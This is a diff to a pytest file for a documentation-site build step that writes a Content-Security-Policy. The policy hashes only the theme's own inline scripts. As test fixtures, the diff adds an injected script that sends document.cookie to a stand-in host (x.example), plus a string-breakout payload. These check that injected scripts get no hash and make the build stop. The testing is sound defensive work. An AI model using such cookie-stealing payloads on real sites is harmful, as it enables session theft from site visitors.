@@ -12,11 +12,14 @@ import sys
 from html.parser import HTMLParser
 from pathlib import Path
 
+import material
 import pytest
 
 from conftest import add
+from handbok.core.errors import Stop
 from handbok.site.postbuild import offline
 from handbok.site.postbuild import PASSES, csp, header_search, precompress, run_passes, search_index, with_policy
+from handbok.site.postbuild.policy import script_hash
 
 BIG = "<p>Fallforebygging i hjemmetjenesten.</p>\n" * 100
 
@@ -54,8 +57,18 @@ def test_precompress_follows_the_text(tmp_path: Path) -> None:
 
 # --- Content-Security-Policy ----------------------------------------------------------------------
 
-FIRST = "\n  var __md_scope = new URL(\".\", location);\r\n  document.body.dataset.x = '<b>';\n"
-SECOND = "localStorage.setItem(\"a\", 1)"
+THEME = Path(material.__file__).parent / "templates" / "partials" / "javascripts"
+
+
+def shipped(template: str, value: str = "") -> str:
+    """The last inline script of one of the theme's templates, as the engine writes it (expressions filled in)."""
+    body = re.findall(r"<script>(.*?)</script>", (THEME / template).read_text(encoding="utf-8"), re.S)[-1]
+    return re.sub(r"{{.*?}}", value, body)
+
+
+FIRST = shipped("base.html", "../..")  # the theme's storage helpers, with the page's base address
+SECOND = shipped("content.html")  # the theme's tab restorer
+INJECTED = "fetch('https://x.example/?c='+document.cookie)"
 TWO_SCRIPTS = (f"<!doctype html>\n<html lang=\"nb\">\n  <head>\n    <meta charset=\"utf-8\">\n"
                f"    <script>{FIRST}</script>\n    <script src=\"assets/bundle.js\"></script>\n"
                f"  </head>\n  <body><script type=\"text/javascript\">{SECOND}</script></body>\n</html>\n")
@@ -111,9 +124,9 @@ def test_the_policy_is_the_first_element_in_head() -> None:
 
 
 def test_a_page_without_head_gets_the_policy_before_its_content() -> None:
-    page = with_policy("<!DOCTYPE html>\n<html lang=\"nb\"><title>Tilsyn</title><script>x()</script><p>Hei</p>")
+    page = with_policy(f"<!DOCTYPE html>\n<html lang=\"nb\"><title>Tilsyn</title><script>{SECOND}</script><p>Hei</p>")
     assert page.startswith("<!DOCTYPE html>\n<html lang=\"nb\"><meta http-equiv=\"Content-Security-Policy\"")
-    assert sha256("x()") in elements(page).policy[0]
+    assert sha256(SECOND) in elements(page).policy[0]
     bare = with_policy("<p>Bare tekst</p>")
     assert bare.startswith("<meta http-equiv=\"Content-Security-Policy\"") and bare.endswith("><p>Bare tekst</p>")
 
@@ -136,11 +149,47 @@ def test_the_pass_is_idempotent(tmp_path: Path) -> None:
 def test_a_changed_script_changes_its_hash_when_the_pass_runs_again(tmp_path: Path) -> None:
     add(tmp_path, "index.html", TWO_SCRIPTS)
     csp(tmp_path)
-    add(tmp_path, "index.html", (tmp_path / "index.html").read_text(encoding="utf-8").replace(SECOND, "y()"))
+    moved = FIRST.replace('"../.."', '"."')  # the same page one level up: another base address
+    add(tmp_path, "index.html", (tmp_path / "index.html").read_text(encoding="utf-8").replace(FIRST, moved))
     csp(tmp_path)
     found = elements((tmp_path / "index.html").read_text(encoding="utf-8"))
     assert len(found.policy) == 1
-    assert directives(found.policy[0])["script-src"] == ["'self'", sha256(FIRST), sha256("y()"), "'wasm-unsafe-eval'"]
+    assert directives(found.policy[0])["script-src"] == ["'self'", sha256(moved), sha256(SECOND), "'wasm-unsafe-eval'"]
+
+
+# --- the second wall: only the scripts the theme and handbok ship ---------------------------------------------
+
+@pytest.mark.parametrize("script", [
+    f"<script>{INJECTED}</script>",
+    f"<SCRIPT type=\"module\">{INJECTED}</SCRIPT >",
+    "<script>" + FIRST.replace("../..", '.",location),alert(1),("') + "</script>",  # a value that leaves its string
+    f"<script>{SECOND};{INJECTED}</script>",  # a known script with more after it
+])
+def test_an_injected_script_gets_no_hash(script: str) -> None:
+    page = TWO_SCRIPTS.replace("<body>", f"<body><p>Innhold</p>{script}")
+    policy = directives(elements(with_policy(page)).policy[0])
+    assert policy["script-src"] == ["'self'", sha256(FIRST), sha256(SECOND), "'wasm-unsafe-eval'"]
+
+
+def test_scripts_that_do_not_run_need_no_hash() -> None:
+    page = TWO_SCRIPTS.replace("<body>", '<body><script id="__config" type="application/json">{"a": 1}</script>'
+                                         '<script type="text/plain" data-x="y"></script>')
+    assert directives(elements(with_policy(page)).policy[0])["script-src"] == [
+        "'self'", sha256(FIRST), sha256(SECOND), "'wasm-unsafe-eval'"]
+
+
+def test_the_pass_refuses_a_site_with_an_injected_script_after_protecting_every_page(tmp_path: Path) -> None:
+    add(tmp_path, "a/index.html", TWO_SCRIPTS.replace("<body>", f"<body><script>{INJECTED}</script>"))
+    add(tmp_path, "b/index.html", TWO_SCRIPTS)
+    with pytest.raises(Stop, match="a/index.html har et skript som verken temaet eller handbok har laget"):
+        csp(tmp_path)
+    for page in ("a/index.html", "b/index.html"):
+        policy = elements((tmp_path / page).read_text(encoding="utf-8")).policy
+        assert len(policy) == 1 and sha256(INJECTED) not in policy[0]
+
+
+def test_a_script_hash_is_of_the_text_the_browser_parsed() -> None:
+    assert script_hash("a()\r\nb()\rc()") == sha256("a()\nb()\nc()")
 
 
 def test_the_policy_runs_before_precompression(tmp_path: Path) -> None:
